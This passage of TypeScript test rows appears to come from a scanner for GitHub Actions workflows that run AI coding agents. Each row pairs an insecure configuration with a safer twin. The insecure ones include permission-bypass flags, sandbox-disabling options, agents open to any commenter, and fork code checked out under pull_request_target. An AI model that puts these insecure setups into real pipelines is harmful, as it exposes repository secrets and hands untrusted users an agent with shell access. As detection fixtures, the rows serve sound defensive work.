      uses: BASE,
      with: tools('Bash'),
      after: ['{ run: ./x, env: { T: "${{ secrets.T }}" } }'],
    },
  },
  ...['augmentcode/augment-agent@v0', 'augmentcode/review-pr@v0', 'mirrajabi/aider-github-action@v1'].map(
    (uses): Row => ({
      row: `1.1: \`${uses}\` has no check of who came`,
      shape: { uses, with: { instruction: 'Say.' } },
      twin: {
        job: ["if: github.event.issue.author_association == 'MEMBER'"],
        uses,
        with: { instruction: 'Say.' },
      },
    }),
  ),
  {
    row: '1.1: the base action as a folder of the other one',
    shape: { uses: 'anthropics/claude-code-action/base-action@v1', with: tools('Bash') },
    twin: { uses: CLAUDE, with: tools('Bash') },
  },
  {
    row: '1.1: an action without tools',
    shape: { uses: BASE, permissions: '{ contents: write }', with: READS },
    twin: { uses: 'actions/ai-inference@v1', permissions: '{ contents: write }', with: { prompt: 'Say.' } },
  },
  {
    row: '1.1: settings within `settings`',
    shape: {
      uses: BASE,
      with: { prompt: 'Say.', settings: `'{ "permissions": { "defaultMode": "bypassPermissions" } }'` },
    },
    twin: { uses: BASE, with: { prompt: 'Say.', settings: `'{ "permissions": { "allow": ["Read"] } }'` } },
  },
  {
    row: '1.1: settings in a file of the project',
    shape: { uses: BASE, with: { prompt: 'Say.', settings: './ci/claude.json' } },
    twin: { uses: BASE, with: { prompt: 'Say.', settings: './ci/claude.json' } },
    beside: { 'ci/claude.json': '{ "permissions": { "allow": ["Bash"] } }' },
    also: [WILDCARD],
    other: [IGNORED],
    twinBeside: { 'ci/claude.json': '{ "permissions": { "allow": ["Bash"], "deny": ["Bash"] } }' },
  },
  ...(
    [
      [
        'a tool',
        { permission: { bash: { 'git push *': 'allow' } } },
        { permission: { bash: 'deny', webfetch: 'deny' } },
        [APPROVED],
      ],
      ['all tools', { permission: 'allow' }, { permission: 'ask' }, [APPROVED]],
      [
        'a command',
        { permission: { '*': 'deny', bash: { '*': 'ask', 'git push *': 'allow' } } },
        { permission: { '*': 'deny', bash: { 'git push *': 'allow', '*': 'ask' } } },
        [APPROVED],
      ],
      ['requests', { permission: { bash: 'deny' } }, { permission: { bash: 'deny', webfetch: 'ask' } }],
      ['tools that are switched off', { tools: { edit: false } }, { tools: { '*': false } }],
      [
        'its agent',
        { permission: 'deny', agent: { build: { permission: { bash: 'allow' } } } },
        { permission: 'deny', agent: { other: { permission: { bash: 'allow' } } } },
        [WILDCARD],
        [WILDCARD],
      ],
      [
        'a list',
        { permissions: [{ action: 'shell', resource: '*', effect: 'ask' }] },
        { permissions: [{ action: '*', resource: '*', effect: 'deny' }] },
      ],
    ] as const
  ).map(
    ([what, settings, twin, also = [], other = []]): Row => ({
      also,
      other,
      row: `1.2: the settings of opencode in the checkout say what it may do, by ${what}`,
      shape: { before: [checkout('')], run: 'opencode run "$P"' },
      twin: { before: [checkout('')], run: 'opencode run "$P"' },
      beside: { 'opencode.json': JSON.stringify(settings) },
      twinBeside: { 'opencode.json': JSON.stringify(twin) },
    }),
  ),
  {
    row: '1.2: settings of opencode that are not checked out have no effect',
    shape: { run: 'opencode run "$P"' },
    twin: { before: [checkout('')], run: 'opencode run "$P"' },
    beside: { 'opencode.json': '{ "permission": "deny" } // nobody answers' },
  },
  {
    row: '1.2: `OPENCODE_PERMISSION` stands over the settings of opencode',
    shape: {
      before: [checkout('')],
      env: `{ OPENCODE_PERMISSION: '{ "bash": "allow" }' }`,
      run: 'opencode run "$P"',
    },
    twin: {
      before: [checkout('')],
      env: `{ OPENCODE_PERMISSION: '{ "bash": "ask" }' }`,
      run: 'opencode run "$P"',
    },
    beside: { 'opencode.json': '{ "permission": { "*": "deny" } }' },
  },
  {
    row: '1.2: an option of opencode answers its questions',
    shape: {
      env: `{ OPENCODE_PERMISSION: '{ "bash": "ask", "webfetch": "ask" }' }`,
      run: 'opencode run --auto "$P"',
    },
    twin: {
      env: `{ OPENCODE_PERMISSION: '{ "bash": "ask", "webfetch": "ask" }' }`,
      run: 'opencode run "$P"',
    },
  },
  ...(
    [
      ['`permissions.allow`', { allow: ['Bash(git push:*)'] }, { allow: ['Bash(git status:*)'] }, []],
      [
        '`permissions.deny`',
        { allow: ['Bash(git push:*)'], deny: ['Read'] },
        { allow: ['Bash(git push:*)'], deny: ['Bash(git:*)'] },
        [IGNORED],
      ],
      ['`permissions.defaultMode`', { defaultMode: 'bypassPermissions' }, { defaultMode: 'plan' }, []],
    ] as const
  ).flatMap(([what, permissions, twin, other]): Row[] =>
    [{ uses: BASE, with: READS }, { run: 'claude -p "$P"' }].map((step, index) => ({
      row: `1.2: ${what} of the project counts for ${index === 0 ? 'the action' : 'the program'} as well`,
      shape: { before: [checkout('')], ...step },
      twin: { before: [checkout('')], ...step },
      beside: { '.claude/settings.json': JSON.stringify({ permissions }) },
      twinBeside: { '.claude/settings.json': JSON.stringify({ permissions: twin }) },
      also: [APPROVED],
      other,
    })),
  ),
  ...(
    [
      ['are not checked out', [], 'claude -p "$P"'],
      ['are not read', [checkout('')], 'claude --bare -p "$P"'],
      ['are of another source', [checkout('')], 'claude -p "$P" --setting-sources user'],
    ] as const
  ).map(
    ([what, before, run]): Row => ({
      row: `1.2: settings of the project that ${what} let nothing run`,
      shape: { before: [checkout('')], run: 'claude -p "$P"' },
      twin: { before, run },
      beside: { '.claude/settings.json': '{ "permissions": { "allow": ["Bash"] } }' },
      also: [WILDCARD],
      other: [WILDCARD],
    }),
  ),
  ...(
    [
      ['of the checkout that are no part of the project', '.claude/settings.local.json', 'claude -p "$P"'],
      ['that an option names', 'ci/agent.json', 'claude --bare -p "$P" --settings ./ci/agent.json'],
    ] as const
  ).map(
    ([what, file, run]): Row => ({
      row: `1.2: settings ${what} let run what they allow`,
      shape: { before: [checkout('')], run },
      twin: { before: [checkout('')], run },
      beside: { [file]: '{ "permissions": { "allow": ["Bash"] } }' },
      twinBeside: { [file]: '{ "permissions": { "allow": ["Read"] } }' },
      also: [WILDCARD],
    }),
  ),
  {
    row: '1.2: settings that an option states let run what they allow',
    shape: { run: `claude -p "$P" --settings '{"permissions":{"allow":["Bash"]}}'` },
    twin: { run: `claude -p "$P" --settings '{"permissions":{"allow":["Read"]}}'` },
  },
  {
    row: '1.2: settings of a person in the checkout are refused by those of the project',
    also: [APPROVED],
    shape: { before: [checkout('')], run: 'claude -p "$P"' },
    twin: { before: [checkout('')], run: 'claude -p "$P"' },
    beside: { '.claude/settings.local.json': '{ "permissions": { "allow": ["Bash(git push:*)"] } }' },
    twinBeside: {
      '.claude/settings.local.json': '{ "permissions": { "allow": ["Bash(git push:*)"] } }',
      '.claude/settings.json': '{ "permissions": { "deny": ["Bash(git push:*)"] } }',
    },
  },
  ...(
    [
      ['copilot -p "$P" --allow-all-tools', 'copilot -p "$P" --allow-all-tools --available-tools=view'],
      ['copilot -p "$P" --allow-all-tools --deny-tool shell', 'copilot -p "$P" --deny-tool shell'],
      [
        'claude -p "$P" --dangerously-skip-permissions',
        'claude -p "$P" --dangerously-skip-permissions --tools Read',
      ],
      [
        'claude -p "$P" --dangerously-skip-permissions --disallowedTools Bash',
        'claude -p "$P" --disallowedTools Bash',
      ],
      ['cn -p "$P" --allow Bash', 'cn -p "$P" --allow Bash --exclude Bash'],
      ['copilot -p "$P" --allow-tool shell', 'copilot -p "$P" --allow-tool shell --deny-tool shell'],
    ] as const
  ).map(
    ([run, other]): Row => ({
      row: `1.2: \`${run}\` is refused less than \`${other}\``,
      shape: { run },
      twin: { run: other },
    }),
  ),
  ...(
    [
      ['cursor-agent -p --force "$P"', '.cursor/cli.json', { permissions: { deny: ['Shell(**)'] } }],
      ['crush run "$P"', 'crush.json', { options: { disabled_tools: ['bash'] } }],
    ] as const
  ).map(
    ([run, file, settings]): Row => ({
      row: `1.2: settings in the checkout take the shell of \`${run}\` away`,
      shape: { before: [checkout('')], run },
      twin: { on: 'push', before: [checkout('')], run },
      beside: { [file]: JSON.stringify(settings) },
      other: run.includes('--force') ? [BYPASS] : [],
    }),
  ),
  ...(
    [
      [
        'claude -p "$P" --dangerously-skip-permissions',
        'claude -p "$P" --allow-dangerously-skip-permissions',
      ],
      ['claude -p "$P" --permission-mode bypassPermissions', 'claude -p "$P" --permission-mode plan'],
      ['claude -p "$P" --permission-mode=bypassPermissions', 'claude -p "$P" --permission-mode dontAsk'],
      ['gemini -p "$P" --approval-mode yolo', 'gemini -p "$P" --approval-mode auto_edit'],
      ['droid exec --skip-permissions-unsafe "$P"', 'droid exec --auto medium "$P"'],
      ['goose run --recipe r.yaml', 'GOOSE_MODE=smart_approve goose run --recipe r.yaml'],
      ['openhands --headless -t "$P"', 'openhands -t "$P"'],
      ['kiro-cli chat --no-interactive -a "$P"', 'kiro-cli chat --no-interactive "$P"'],
    ] as const
  ).map(
    ([run, other]): Row => ({
      row: `1.2: \`${run}\`, and the milder \`${other}\``,
      shape: { run },
      twin: { run: other },
    }),
  ),
  {
    row: 'H6: Codex with `sudo` can read its key',
    shape: { on: 'push', uses: CODEX, with: { prompt: 'Say.', 'safety-strategy': 'read-only' } },
    twin: { on: 'push', uses: CODEX, with: { prompt: 'Say.', 'safety-strategy': 'drop-sudo' } },
  },
  {
    row: 'trap 5 and 6: without `allow-bots` no bot starts Codex',
    shape: { uses: 'openai/codex-action@v1.6', with: { prompt: 'Say.', 'allow-bots': 'true' } },
    twin: { uses: 'openai/codex-action@v1.6', with: { prompt: 'Say.' } },
  },
  {
    row: 'trap 5: a star is no value of `allow-bots`',
    shape: { uses: CODEX, with: { prompt: 'Say.', 'allow-users': '"*"' } },
    twin: { uses: CODEX, with: { prompt: 'Say.', 'allow-bots': '"*"' } },
  },
  ...(
    [
      ["== 'FIRST_TIME_CONTRIBUTOR'", "== 'OWNER'"],
      ["== 'CONTRIBUTOR'", "== 'COLLABORATOR'"],
      ["!= 'MEMBER'", "== 'MEMBER'"],
    ] as const
  ).map(
    ([shape, twin]): Row => ({
      row: `trap 12: an author who is ${shape}`,
      shape: {
        on: 'issue_comment',
        job: [`if: github.event.comment.author_association ${shape}`],
        uses: GEMINI,
      },
      twin: {
        on: 'issue_comment',
        job: [`if: github.event.comment.author_association ${twin}`],
        uses: GEMINI,
      },
    }),
  ),
  ...(
    [
      ['head.repo.fork == true', 'head.repo.fork == false'],
      ['head.repo.full_name != github.repository', 'head.repo.full_name == github.repository'],
      ["user.login != 'octocat'", "user.login == 'octocat'"],
    ] as const
  ).map(
    ([shape, twin]): Row => ({
      row: `trap 13: \`${shape}\` shuts out nobody`,
      shape: { on: 'pull_request_target', job: [`if: github.event.pull_request.${shape}`], uses: GEMINI },
      twin: { on: 'pull_request_target', job: [`if: github.event.pull_request.${twin}`], uses: GEMINI },
    }),
  ),
  {
    row: '1.1: a check of approvals is no agent',
    shape: { uses: BASE, with: tools('Bash') },
    twin: { uses: 'anthropics/claude-code-action/agent-approval-check@v1' },
  },
  {
    row: '1.1: the files of a fork in a review of its security',
    shape: {
      on: 'pull_request_target',
      before: [checkout(`ref: ${HEAD}`)],
      uses: 'anthropics/claude-code-security-review@v1',
      with: { 'custom-security-scan-instructions': 'scan.txt' },
    },
    twin: {
      on: 'pull_request_target',
      before: [checkout('')],
      uses: 'anthropics/claude-code-security-review@v1',
      with: { 'custom-security-scan-instructions': 'scan.txt' },
    },
  },
  {
    row: '1.1: Droid opened to everybody; its repair of failed runs is for people with write access',
    shape: { uses: 'Factory-AI/droid-action@v1', with: { ...OPENED } },
    twin: {
      on: 'workflow_run',
      uses: 'Factory-AI/droid-action@v1',
      with: { ci_steward: 'true', auto_fix: 'true', max_fix_attempts: '2' },
    },
  },
  {
    row: '1.2: `auggie` asks for nothing, and is refused its shell alone',
    shape: { run: 'auggie --print --permission "launch-process:deny" "$P"' },
    twin: { on: 'push', run: 'auggie --print --permission "launch-process:deny" "$P"' },
  },
  ...(
    [
      ['a step that writes them', `echo "rules: [{ capability: all, effect: allow }]" > ${KIRO}`, 'deny'],
      ['a step that copies them', `cp ci/kiro.yaml ${KIRO}`, 'ask'],
    ] as const
  ).map(
    ([what, step, effect]): Row => ({
      row: `1.2: permissions of Kiro by ${what}`,
      shape: {
        before: [`run: '${step}'`],
        run: 'kiro-cli chat --no-interactive "$P"',
      },
      twin: {
        before: [`run: '${step.replace('allow', effect)}'`],
        run: 'kiro-cli chat --no-interactive "$P"',
      },
      beside: { 'ci/kiro.yaml': 'rules:\n  - capability: all\n    effect: allow\n' },
      twinBeside: { 'ci/kiro.yaml': `rules:\n  - capability: all\n    effect: ${effect}\n` },
    }),
  ),
  {
    row: '1.1: a server in the settings of Gemini CLI, with every tool',
    shape: { uses: GEMINI, with: served('{}') },
    twin: { uses: GEMINI, with: served('{ "includeTools": ["get_issue"] }') },
  },
  {
    row: '1.1: a command that the settings of Gemini CLI run',
    shape: { on: 'push', uses: GEMINI, with: discovery(LOAD) },
    twin: { on: 'push', uses: GEMINI, with: discovery('./tools.sh') },
  },
  {
    row: '1.1: a hook in the settings of Claude Code',
    shape: { on: 'push', uses: BASE, with: hooked(LOAD) },
    twin: { on: 'push', uses: BASE, with: hooked('npm ci') },
  },
  {
    row: '1.3: every tool of a server',
    shape: { uses: BASE, with: tools('mcp__gitlab') },
    twin: { uses: BASE, with: tools('mcp__gitlab__get_issue') },
  },
  ...(
    [
      ['google-gemini/gemini-cli-action@v0', {}, core('read_file')],
      ['augmentcode/review-pr@v1', {}, undefined],
      ['augmentcode/describe-pr@v1', {}, undefined],
      ['mirrajabi/aider-github-action@v1', { aider_args: '"--yes"' }, undefined],
    ] as const
  ).map(
    ([uses, shape, twin]): Row => ({
      row: `1.1: \`${uses}\` for everybody`,
      shape: { on: '{ issues: { types: [reopened] } }', uses, with: shape },
      twin: twin ? { uses, with: twin } : { on: 'workflow_dispatch', uses, with: shape },
      other: 'aider_args' in shape ? [BYPASS] : [],
    }),
  ),
  {
    row: '1.1: options of Codex that open its sandbox',
    shape: {
      uses: CODEX,
      with: { prompt: 'Say.', 'allow-users': '"*"', 'codex-args': '"--sandbox danger-full-access"' },
    },
    twin: { uses: CODEX, with: { prompt: 'Say.', 'codex-args': '"--sandbox workspace-write"' } },
  },
  {
    row: '1.1: tools of a server that an option starts',
    shape: {
      uses: BASE,
      with: { prompt: 'Say.', claude_args: `'--mcp-config a.json --allowedTools mcp__a__delete_all'` },
    },
    twin: {
      uses: BASE,
      with: { prompt: 'Say.', claude_args: `'--mcp-config a.json --allowedTools mcp__a__list_all'` },
    },
  },
  {
    row: '1.1: artifacts of Gemini CLI',
    shape: { uses: GEMINI, with: { ...core('read_file'), upload_artifacts: 'true' } },
    twin: { uses: GEMINI, with: { ...core('read_file'), upload_artifacts: 'false' } },
  },
];
